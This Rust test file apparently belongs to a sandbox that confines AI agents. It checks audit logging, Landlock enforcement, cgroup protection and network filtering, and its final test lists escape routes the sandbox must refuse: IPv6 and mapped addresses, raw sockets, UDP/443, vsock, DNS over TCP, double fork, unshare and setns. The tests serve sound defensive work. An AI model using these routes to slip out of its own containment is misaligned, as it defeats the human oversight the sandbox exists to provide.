    std::os::unix::fs::chown(net.audit(), Some(65534), Some(65534)).expect("chown");
    let run = net.run(&["--user", "nobody"], &["true"]);
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(
        run.stderr.contains("the audit log's directory") && run.stderr.contains("owned by uid 65534"),
        "{}",
        run.all()
    );
    std::os::unix::fs::chown(net.audit(), Some(0), Some(0)).expect("chown back");
    assert_eq!(net.run(&["--user", "nobody"], &["true"]).code, 0, "root's files pass");
}

/// Where the user owns cgroups (a desktop's systemd user slices, where
/// `bridle run` itself may run), the command cannot write them: cgroup v2
/// asks who may write `cgroup.procs` and `cgroup.kill`, not who owns the
/// processes, so it could move Bridle into a cgroup of its own and kill it.
#[test]
fn the_command_cannot_write_the_cgroups_its_user_owns() {
    let net = TestNet::new("cgroupro");
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").expect("mountinfo");
    let mount = mountinfo
        .lines()
        .find(|line| line.split(" - ").nth(1).is_some_and(|rest| rest.starts_with("cgroup2 ")))
        .and_then(|line| line.split(' ').nth(4))
        .expect("a cgroup2 mount");
    let delegated = PathBuf::from(format!("{mount}/bridle-test-delegated-{}", std::process::id()));
    std::fs::create_dir(&delegated).expect("a cgroup");
    let _planted = Planted { dirs: vec![delegated.clone()], files: Vec::new() };
    // As systemd delegates one: the directory and its procs files are the user's.
    for file in ["", "cgroup.procs", "cgroup.threads", "cgroup.subtree_control"] {
        std::os::unix::fs::chown(delegated.join(file), Some(65534), Some(65534)).expect("chown");
    }
    let make = format!(
        "import errno, os\ntry:\n    os.mkdir('{}/x'); os.rmdir('{}/x'); print('made')\n\
         except OSError as e:\n    print(errno.errorcode[e.errno])\n",
        delegated.display(),
        delegated.display()
    );
    let outside = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", &make])
        .output()
        .expect("outside the session");
    let said = String::from_utf8_lossy(&outside.stderr);
    assert_eq!(String::from_utf8_lossy(&outside.stdout), "made\n", "the user may, outside: the test can fail ({said})");
    let run = net.run(&["--user", "nobody"], &["/usr/bin/python3", "-c", &make]);
    assert_eq!(run.code, 0, "{}", run.all());
    assert_eq!(run.stdout, "EROFS\n", "{}", run.all());
}

/// An enforcement part the kernel lacks is a refusal, not a footnote:
/// where Landlock is missing (here: `landlock_create_ruleset` failed with
/// ENOSYS by a seccomp filter Bridle starts under, as on a kernel built
/// without it), the command is not started, and the error (on stderr and
/// in the audit log) says how to run it anyway; with `--degraded` it runs,
/// and the audit log says what the command can do for want of it.
#[test]
#[expect(unsafe_code, reason = "pre_exec: the filter is installed between fork and exec")]
fn without_landlock_the_command_starts_only_when_degraded() {
    use seccompiler::{BpfProgram, SeccompAction, SeccompFilter};
    use std::os::unix::process::CommandExt as _;
    let net = TestNet::new("nolandlock");
    let arch = std::env::consts::ARCH.try_into().expect("seccomp architecture");
    let no_landlock =
        [libc::SYS_landlock_create_ruleset, libc::SYS_landlock_add_rule, libc::SYS_landlock_restrict_self];
    let filter = SeccompFilter::new(
        no_landlock.into_iter().map(|call| (call, Vec::new())).collect(),
        SeccompAction::Allow,
        SeccompAction::Errno(libc::ENOSYS as u32),
        arch,
    )
    .expect("filter");
    let program: BpfProgram = filter.try_into().expect("compiled");
    let without_landlock = |extra: &[&str]| {
        let mut command = net.command(extra, &["/usr/bin/python3", "-c", "print('ran')"]);
        let program = program.clone();
        // SAFETY: between fork and exec only the seccomp(2) call is made,
        // on a program built before the fork.
        unsafe {
            command.pre_exec(move || seccompiler::apply_filter(&program).map_err(std::io::Error::other));
        }
        Run::from(command.output().expect("run nsenter"))
    };
    let refused = without_landlock(&["--user", "nobody"]);
    assert_eq!(refused.code, 2, "{}", refused.all());
    assert!(refused.stdout.is_empty(), "the command ran: {}", refused.all());
    assert!(
        refused.stderr.contains("this kernel has no Landlock") && refused.stderr.contains("--degraded"),
        "{}",
        refused.all()
    );
    let degraded = without_landlock(&["--user", "nobody", "--degraded"]);
    assert_eq!((degraded.code, degraded.stdout.as_str()), (0, "ran\n"), "{}", degraded.all());
    // The second session's: the audit log holds both.
    let records = records(&net.audit());
    let first = session_id(&records).expect("start notice");
    let rest: Vec<serde_json::Value> = records
        .iter()
        .skip_while(|r| !r["message"].as_str().is_some_and(|m| m.contains(&first)))
        .skip(1)
        .cloned()
        .collect();
    let id = session_id(&rest).expect("the degraded session's start notice");
    let kept = warnings_kept(&records, &id);
    assert!(kept.iter().any(|kept| kept.contains("no Landlock") && kept.contains("--degraded")), "{kept:?}");
    let refused = warnings_kept(&records, &first);
    assert!(
        refused.iter().any(|kept| kept.starts_with("the command was not started") && kept.contains("no Landlock")),
        "{refused:?}"
    );
}

/// Bridle raises its own open-files limit to the hard one (a proxy holds
/// several descriptors per connection, and sudo on a desktop leaves 1024);
/// the command gets the limit Bridle was started with.
#[test]
fn bridle_raises_its_open_files_limit_and_the_command_keeps_its_own() {
    let net = TestNet::new("nofile");
    let script = "import os, resource\nprint(resource.getrlimit(resource.RLIMIT_NOFILE))\n\
                  limits = open('/proc/%d/limits' % os.getppid()).read().splitlines()\n\
                  print([' '.join(l.split()[3:5]) for l in limits if l.startswith('Max open files')][0])\n";
    let inner = net.command(&["--user", "nobody"], &["/usr/bin/python3", "-c", script]);
    let mut command = Command::new("prlimit");
    command.arg("--nofile=1024:4096").arg("--").arg(inner.get_program()).args(inner.get_args()).env_remove("SUDO_UID");
    let run = Run::from(command.output().expect("run prlimit"));
    assert_eq!(run.code, 0, "{}", run.all());
    assert_eq!(run.stdout, "(1024, 4096)\n4096 4096\n", "the command's, then Bridle's: {}", run.all());
}

/// The audit log is a hash chain with one writer: a session started while
/// another writes the same log audits to one of its own beside it, says
/// where, and both chains verify.
#[test]
fn a_session_beside_another_on_the_same_log_gets_a_log_of_its_own() {
    let net = TestNet::new("twolog");
    let go = format!("/tmp/bridle-test-go-{}", std::process::id());
    let first = net.started("nobody", &when_told(&go, "print('first')\n"));
    let second = net.run(&["--user", "nobody"], &["/usr/bin/python3", "-c", "print('second')"]);
    let first = tell_and_wait(first, &go);
    assert_eq!((first.code, first.stdout.as_str()), (0, "first\n"), "{}", first.all());
    assert_eq!((second.code, second.stdout.as_str()), (0, "second\n"), "{}", second.all());
    let said = second.stderr.lines().find(|line| line.contains("is in use by another session")).unwrap_or_default();
    let own = said.rsplit("auditing to ").next().unwrap_or_default().trim();
    assert!(own.ends_with(".jsonl") && own != path(&net.audit()), "{}", second.all());
    for log in [path(&net.audit()), own.to_string()] {
        let verify = support::bridle(&["audit", "verify", &log]);
        assert_eq!(verify.code, 0, "{log}: {}", verify.all());
        assert!(records(Path::new(&log)).iter().any(|r| r["type"] == "notice"), "{log} holds its session");
    }
}

/// A guarded agent that listens is not reachable from outside: the packet
/// filter passes only loopback peers, so the handshake never completes.
#[test]
fn a_listening_agent_cannot_be_reached_from_outside_its_cgroup() {
    let net = TestNet::new("listen");
    let script = "import socket, time\n\
                  s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
                  s.bind(('0.0.0.0', 8099)); s.listen(); s.settimeout(4)\n\
                  print('listening', flush=True)\n\
                  try:\n    s.accept(); print('accepted')\nexcept OSError as e:\n    print('none', e)\n";
    let netns = format!("--net=/run/netns/{}", net.name);
    let agent = net.command(&["--user", "nobody"], &["python3", "-c", script]).stdout(Stdio::piped()).spawn();
    let mut agent = agent.expect("start bridle run");
    let mut stdout = agent.stdout.take().expect("stdout");
    let mut first = [0u8; 10];
    std::io::Read::read_exact(&mut stdout, &mut first).expect("the agent listens");
    assert_eq!(&first, b"listening\n");
    let probe = "import socket\ntry:\n    socket.create_connection(('198.51.100.7', 8099), 2); print('connected')\n\
                 except OSError as e:\n    print('refused', e)\n";
    let outside = Command::new("nsenter").args([netns.as_str(), "python3", "-c", probe]).output().expect("probe");
    let said = String::from_utf8_lossy(&outside.stdout);
    assert!(said.starts_with("refused"), "reached the agent from outside: {said}");
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stdout, &mut rest).expect("the agent's output");
    assert!(rest.contains("none"), "{rest}");
    let _ = agent.wait();
}

#[test]
fn bypass_attempts_are_refused_or_decided() {
    let net = TestNet::new("bypass");
    let run = net.run(&["--user", "nobody"], &["python3", "-c", BYPASS]);
    assert_eq!(run.code, 0, "{}", run.all());
    let got: std::collections::HashMap<&str, &str> = run.stdout.lines().filter_map(|l| l.split_once('=')).collect();
    let expect = [
        // denied.test is refused at DNS; its name in a Host header does not
        // name an address allowed.test resolved to: the request is refused.
        ("v6_allowed", "200"),
        ("v6_denied", "403"),
        ("mapped_allowed", "200"),
        ("mapped_denied", "403"),
        ("udp443", "EPERM"),
        ("udp443_v6", "EPERM"),
        ("raw", "EPERM"),
        ("ping", "EPERM"),
        ("ping6", "EPERM"),
        ("source_route", "EPERM"),
        ("vsock", "EAFNOSUPPORT"),
        ("console", "EPERM"),
        ("dns_tcp", "exit0:198.51.100.7"),
        ("dns_v6", "exit0:198.51.100.7"),
        ("double_fork", "403"),
    ];
    for (name, want) in expect {
        assert_eq!(got.get(name).copied(), Some(want), "{name}: {}", run.all());
    }
    // A namespace of its own (unprivileged user namespace) has no way out:
    // the cgroup's programs still steer its connects to a proxy that is not
    // there. Joining another namespace needs privileges the agent lacks.
    let unshare = got.get("unshare").copied().unwrap_or_default();
    assert!(!unshare.contains("connected"), "unshare escaped: {}", run.all());
    assert!(got.get("setns").is_some_and(|s| !s.starts_with("exit0")), "setns succeeded: {}", run.all());

    let decisions: Vec<serde_json::Value> =
        records(&net.audit()).into_iter().filter(|r| r["event"]["kind"] == "net.connect").collect();
    let v6 = decisions.iter().filter(|r| r["event"]["detail"]["ip"] == "2001:db8::7").count();
    assert_eq!(v6, 2, "both IPv6 connects decided: {decisions:?}");
}
